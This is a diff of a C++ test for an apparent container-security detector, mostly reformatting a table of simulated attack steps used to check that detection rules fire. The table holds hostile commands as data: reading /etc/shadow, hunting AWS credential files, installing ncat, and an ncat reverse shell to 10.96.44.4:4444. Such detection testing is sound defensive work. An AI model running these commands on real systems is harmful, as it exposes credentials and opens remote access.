@@ -10,9 +10,8 @@
 #include <chrono>
 #include <filesystem>
 #include <fstream>
-#include <thread>
-
 #include <nlohmann/json.hpp>
+#include <thread>
 
 #include "fake_kube.h"
 #include "sandwatch/core/clock.h"
@@ -41,13 +40,21 @@ struct Step {
 const std::vector<Step> kChain = {
     {"shell", "unexpected_shell", "Terminal shell in container", {"bash", "-i"}},
     {"shadow", "shadow_file_access", "Read sensitive file untrusted", {"cat", "/etc/shadow"}},
-    {"aws-creds", "aws_credential_discovery", "Find AWS Credentials",
+    {"aws-creds",
+     "aws_credential_discovery",
+     "Find AWS Credentials",
      {"find", "/", "-path", "*/.aws/credentials"}},
-    {"package-install", "package_manager_execution",
-     "Launch Package Management Process in Container", {"dpkg", "-i", "/var/cache/sandwatch/debs/ncat.deb"}},
-    {"new-binary", "post_start_binary_execution", "Drop and execute new binary in container",
+    {"package-install",
+     "package_manager_execution",
+     "Launch Package Management Process in Container",
+     {"dpkg", "-i", "/var/cache/sandwatch/debs/ncat.deb"}},
+    {"new-binary",
+     "post_start_binary_execution",
+     "Drop and execute new binary in container",
      {"ncat", "--version"}},
-    {"reverse-shell", "nc_execution", "Netcat Remote Code Execution in Container",
+    {"reverse-shell",
+     "nc_execution",
+     "Netcat Remote Code Execution in Container",
      {"ncat", "--exec", "/bin/sh", "10.96.44.4", "4444"}},
 };
 
@@ -147,7 +154,8 @@ class KubeRunTest : public ::testing::Test {
                      {{"k8s.pod.name", pod},
                       {"k8s.ns.name", "kata-demo"},
                       {"proc.pid", 40000 + i},
-                      {"proc.cmdline", [&] {
+                      {"proc.cmdline",
+                       [&] {
                          std::string c;
                          for (const auto& a : s.command) c += (c.empty() ? "" : " ") + a;
                          return c;
